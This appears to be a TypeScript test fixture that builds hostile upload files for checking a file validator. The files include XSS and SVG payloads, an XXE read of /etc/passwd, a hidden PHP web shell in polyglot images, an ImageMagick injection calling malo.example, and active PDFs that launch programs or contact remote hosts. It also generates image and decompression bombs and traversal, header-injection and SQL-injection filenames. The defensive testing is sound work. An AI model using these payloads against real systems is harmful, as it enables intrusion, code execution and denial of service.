import { randomBytes } from 'node:crypto';
import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import sharp from 'sharp';
import { jpegWithExif, pdfFile, pngFile } from '#testing/files.ts';
import { packedObjects, pdfOf } from '#testing/pdf-parts.ts';

/** Generated, so that the repository contains none. */
export interface HostileFile {
  readonly name: string;
  readonly bytes: Buffer;
}

const script = '<script>alert(document.domain)</script>';

export function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(data.length);
  frame.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)]);
}

function pngOf(width: number, height: number, inflatedBytes: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(inflatedBytes))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

async function pngWithHugeComment(): Promise<Buffer> {
  const png = await pngFile();
  const comment = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(200 * 1024 * 1024))]);
  return Buffer.concat([png.subarray(0, 33), pngChunk('zTXt', comment), png.subarray(33)]);
}

async function jpegOf65500(): Promise<Buffer> {
  const jpeg = Buffer.from(
    await sharp({ create: { width: 8, height: 8, channels: 3, background: '#fff' } })
      .jpeg()
      .toBuffer(),
  );
  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  jpeg.writeUInt16BE(65_500, frame + 5);
  jpeg.writeUInt16BE(65_500, frame + 7);
  return jpeg;
}

function gifOf(width: number, height: number, frames: number): Buffer {
  const head = Buffer.from('GIF89a\0\0\0\0\x80\0\0\0\0\0\xff\xff\xff', 'latin1');
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  const frame = Buffer.from('\x2c\0\0\0\0\0\0\0\0\0\x02\x02\x44\x01\0', 'latin1');
  frame.writeUInt16LE(width, 5);
  frame.writeUInt16LE(height, 7);
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')]);
}

function zipFile(): Buffer {
  const name = Buffer.from('word/document.xml');
  const data = deflateRawSync('hola');
  const head = Buffer.alloc(30);
  head.write('PK\x03\x04', 'latin1');
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(data.length, 18);
  head.writeUInt32LE(4, 22);
  head.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  return Buffer.concat([head, name, data, end]);
}

function pdfWith(options: PDFKit.PDFDocumentOptions, draw?: (document: PDFKit.PDFDocument) => void): Promise<Buffer> {
  return new Promise((resolve) => {
    const document = new PDFDocument(options);
    const chunks: Buffer[] = [];
    document.on('data', (part: Buffer) => chunks.push(part));
    document.on('end', () => resolve(Buffer.concat(chunks)));
    document.text('Documento de una persona sintética');
    draw?.(document);
    document.end();
  });
}

async function pdfWithObject(object: string | Buffer): Promise<Buffer> {
  const pdf = await pdfFile();
  const at = pdf.lastIndexOf('xref\n', pdf.lastIndexOf('startxref') - 1);
  return Buffer.concat([pdf.subarray(0, at), Buffer.from(object), Buffer.from('\n'), pdf.subarray(at)]);
}

const packed = (objects: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from('90 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
    deflateSync(objects),
    Buffer.from('\nendstream\nendobj'),
  ]);

const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;

/** Neither images nor PDFs, whatever they look like. Rejected everywhere. */
export const disguisedFiles = (): HostileFile[] => [
  { name: 'empty', bytes: Buffer.alloc(0) },
  { name: 'one byte', bytes: Buffer.from([0xff]) },
  { name: 'zip called pdf', bytes: zipFile() },
  { name: 'gzip', bytes: gzipSync('hola') },
  { name: 'SVG with script', bytes: Buffer.from(svg) },
  { name: 'SVG behind a mark', bytes: Buffer.from(`\uFEFF\n\n${svg}`) },
  {
    name: 'SVG with an external entity',
    bytes: Buffer.from(
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ),
  },
  { name: 'HTML', bytes: Buffer.from(`<!doctype html>${script}`) },
  { name: 'HTML that begins like a GIF', bytes: Buffer.from(`GIF89a=1;${script}`) },
  {
    name: 'script that begins like a JPEG',
    bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(script)]),
  },
  { name: 'PostScript', bytes: Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n') },
  { name: 'program', bytes: Buffer.concat([Buffer.from('MZ'), randomBytes(500)]) },
  { name: 'ELF', bytes: Buffer.concat([Buffer.from('\x7fELF'), randomBytes(500)]) },
  {
    name: 'ImageMagick script',
    bytes: Buffer.from('push graphic-context\nfill \'url(https://malo.example/"|ls "-la)\'\n'),
  },
  { name: 'random bytes', bytes: randomBytes(20_000) },
  { name: 'TIFF', bytes: Buffer.from('II*\0\x08\0\0\0\0\0\0\0', 'latin1') },
  { name: 'endless zeros', bytes: Buffer.alloc(4 * 1024 * 1024) },
];

/** Expensive or truncated images. Rejected everywhere. */
export const imageBombs = async (): Promise<HostileFile[]> => [
  { name: '30,000 × 30,000 PNG', bytes: pngOf(30_000, 30_000, 2_000_000) },
  { name: 'PNG of 2^31 pixels in a row', bytes: pngOf(0x7fffffff, 1, 1_000) },
  { name: 'PNG without height', bytes: pngOf(100, 0, 1_000) },
  { name: '65,500 × 65,500 JPEG', bytes: await jpegOf65500() },
  { name: 'PNG cut in the middle', bytes: (await pngFile(400, 300)).subarray(0, 200) },
];

/** Rejected as documents. */
export const activePdfs = async (): Promise<HostileFile[]> => {
  const pdf = await pdfFile();
  return [
    {
      name: 'PDF with script',
      bytes: await pdfWithObject('90 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'),
    },
    {
      name: 'PDF with a name in hex',
      bytes: await pdfWithObject('90 0 obj\n<< /S /#4a#61vaScript /#4A#53 (app.alert(1)) >>\nendobj'),
    },
    { name: 'PDF with a program', bytes: await pdfWithObject('90 0 obj\n<< /S /Launch /F (calc.exe) >>\nendobj') },
    { name: 'PDF with a form that runs', bytes: await pdfWithObject('90 0 obj\n<< /XFA [(a) 91 0 R] >>\nendobj') },
    { name: 'PDF with a film', bytes: await pdfWithObject('90 0 obj\n<< /Subtype /RichMedia >>\nendobj') },
    {
      name: 'PDF with a file inside',
      bytes: await pdfWith({}, (document) => void document.file(Buffer.from('hola'), { name: 'a.exe' })),
    },
    {
      name: 'PDF with a password',
      bytes: await pdfWith({ userPassword: 'clave', ownerPassword: 'otra', pdfVersion: '1.7' }),
    },
    { name: 'PDF with a packed script', bytes: await pdfWithObject(packed('90 0 << /S /JavaScript /JS (a) >>')) },
    ...[
      ['with "obj" in a text', { type: '', extra: '/X(obj)' }],
      ['with 40 blanks before "stream"', { type: '', gap: ' '.repeat(40) }],
      ['with a comment before "stream"', { type: '', gap: '%c\n' }],
    ].map(([how, options]) => ({
      name: `PDF with a script packed without its type, ${how}`,
      bytes: pdfOf([packedObjects([[9, '<</S/JavaScript/JS(app.alert(1))>>']], options as object)]),
    })),
    {
      name: 'PDF that tells a URL when it is opened',
      bytes: pdfOf([], '<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(https://malo.example)>>>>'),
    },
    {
      name: 'PDF that opens a file of another machine',
      bytes: pdfOf([], '<</Type/Catalog/Pages 2 0 R/AA<</O<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\a)>>>>>>'),
    },
    {
      name: 'PDF whose data lies elsewhere',
      bytes: pdfOf([{ text: '<</Length 1/F(a.bin)>>', stream: Buffer.from('x') }]),
    },
    {
      name: 'PDF whose data lies where another object says',
      bytes: pdfOf([
        { text: '<</Length 1/F 5 0 R>>', stream: Buffer.from('x') },
        { text: '<</Type/Filespec/F(\\\\\\\\198.51.100.7\\\\a)>>' },
      ]),
    },
    {
      name: 'PDF with a program in PostScript',
      bytes: pdfOf([{ text: '<</Type/XObject/Subtype/PS/Length 1>>', stream: Buffer.from('x') }]),
    },
    {
      name: 'PDF with a program in PostScript under a name in hex',
      bytes: pdfOf([{ text: '<</Type/XObject/Subtype/Form/Subtype2/P#53/Length 1>>', stream: Buffer.from('x') }]),
    },
    {
      name: 'PDF whose links count from another machine',
      bytes: pdfOf([], '<</Type/Catalog/Pages 2 0 R/URI<</Base(file://198.51.100.7/a/)>>>>'),
    },
    {
      name: 'PDF of 1 KB that inflates twice, to 300 MB',
      bytes: pdfOf([
        {
          text: '<</Filter[/FlateDecode/FlateDecode]>>',
          stream: deflateSync(deflateSync(Buffer.alloc(300 * 1024 * 1024))),
        },
      ]),
    },
    {
      name: 'PDF of 480 KB that took twelve seconds',
      bytes: Buffer.from(
        `%PDF-1.5\n1 0 obj<</First 1/N 1${'/Filter['.repeat(60_000)}>>\nstream\nx\nendstream\nendobj\n%%EOF`,
      ),
    },
    { name: 'PDF of 64 KB that took four gigabytes', bytes: await pdfWithObject(packed('#41'.repeat(22_020_096))) },
    { name: 'PDF that inflates to 300 MB', bytes: await pdfWithObject(packed(Buffer.alloc(300 * 1024 * 1024))) },
    { name: 'PDF followed by a ZIP', bytes: Buffer.concat([pdf, zipFile()]) },
    { name: 'PDF behind HTML', bytes: Buffer.concat([Buffer.from(script), pdf]) },
    { name: 'PDF cut in the middle', bytes: pdf.subarray(0, Math.floor(pdf.length / 2)) },
  ];
};

/** The hidden text in {@link polyglots}; must not be in any stored file. */
export const polyglotMarker = 'DETRAS DE LA IMAGEN';

/** Valid images with other content after or inside them; only the image is stored. */
export const polyglots = async (): Promise<HostileFile[]> => {
  const hidden = Buffer.from(`${polyglotMarker}<?php system($_GET[0]); ?>${script}`);
  const png = await pngFile();
  const jpeg = await jpegWithExif();
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, 0, hidden.length + 2]), hidden]);
  return [
    { name: 'PNG with HTML behind', bytes: Buffer.concat([png, hidden]) },
    { name: 'PNG with a ZIP behind', bytes: Buffer.concat([png, hidden, zipFile()]) },
    {
      name: 'PNG with text inside',
      bytes: Buffer.concat([
        png.subarray(0, 33),
        pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), hidden])),
        png.subarray(33),
      ]),
    },
    {
      name: 'JPEG with a script in its comment',
      bytes: Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
    },
    { name: 'JPEG with a PDF behind', bytes: Buffer.concat([jpeg, hidden, await pdfFile()]) },
  ];
};

/** May be accepted or rejected, but without much time or memory. */
export const heavyFiles = async (): Promise<HostileFile[]> => [
  { name: 'PNG with a comment of 200 MB', bytes: await pngWithHugeComment() },
  { name: 'GIF of 60,000 × 60,000', bytes: gifOf(60_000, 60_000, 2) },
  { name: 'GIF of 100,000 frames', bytes: gifOf(8, 8, 100_000) },
  {
    name: 'PDF of nested brackets',
    bytes: await pdfWithObject(`90 0 obj\n${'['.repeat(500_000)}${']'.repeat(500_000)}\nendobj`),
  },
  {
    name: 'PDF of streams',
    bytes: await pdfWithObject('91 0 obj\n<< >>\nstream\nx\nendstream\nendobj\n'.repeat(50_000)),
  },
];

export const hostileNames = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\a.pdf',
  '/etc/passwd',
  'C:\\a.pdf',
  'a\u0000.pdf.exe',
  'a\r\nSet-Cookie: b=c.pdf',
  'a"; filename="b.html',
  'cedula\u202Efdp.exe',
  '\u2066a\u2069.pdf',
  '<img src=x onerror=alert(1)>.pdf',
  '=cmd|calc!A1.pdf',
  "'; DROP TABLE documents; --.pdf",
  '.htaccess',
  '..',
  '',
  ' ',
  'CON',
  'a'.repeat(5_000),
  '💥'.repeat(200),
  '\ud800.pdf',
  'cédula ñandú.pdf',
] as const;
